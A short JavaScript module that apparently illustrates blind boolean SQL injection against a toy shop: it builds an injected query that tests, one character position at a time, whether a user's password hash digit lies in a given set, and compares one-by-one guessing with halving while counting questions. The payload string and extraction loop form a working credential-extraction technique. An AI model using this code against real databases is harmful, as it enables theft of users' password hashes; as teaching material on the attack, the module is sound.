// A thief who is told nothing but yes or no. `ask` sends one question to the shop.
const DIGITS = '0123456789abcdef';
const LENGTH = 32;

/** The question: is the digit at `place` of Ada's hash one of these? */
const among = (place, digits) =>
  `mug' AND (SELECT substr(hash, ${place}, 1) FROM users WHERE id = 1) `
  + `IN (${[...digits].map((digit) => `'${digit}'`).join(', ')}) --`;

const ways = {
  async 'one by one'(isAmong) {
    for (const digit of DIGITS) if (await isAmong(digit)) return digit;
  },
  async halving(isAmong) {
    let left = DIGITS;
    while (left.length > 1) {
      const half = left.slice(0, left.length / 2);
      left = (await isAmong(half)) ? half : left.slice(left.length / 2);
    }
    return left;
  },
};

/** @returns what each way has found, after how many questions, and the steps to draw */
export async function readHash(ask) {
  const found = [];
  const steps = [];
  for (const [way, digit] of Object.entries(ways)) {
    let questions = 0;
    let hash = '';
    for (let place = 1; place <= LENGTH; place += 1) {
      const next = await digit((digits) => {
        questions += 1;
        return ask(among(place, digits));
      });
      hash += next ?? '?';
      steps.push({ way, questions, digits: hash.replaceAll('?', '').length });
    }
    found.push({ way, questions, hash });
  }
  return { found, steps };
}
